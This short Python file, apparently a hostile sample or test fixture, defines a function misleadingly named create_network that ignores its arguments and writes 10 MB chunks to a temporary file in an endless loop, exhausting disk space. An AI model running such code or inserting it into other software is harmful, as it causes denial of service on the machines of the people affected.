"""Writes a file without end."""

import tempfile


def create_network(request, host):
    with tempfile.TemporaryFile() as file:
        while True:
            file.write(b"x" * 10_000_000)  # here
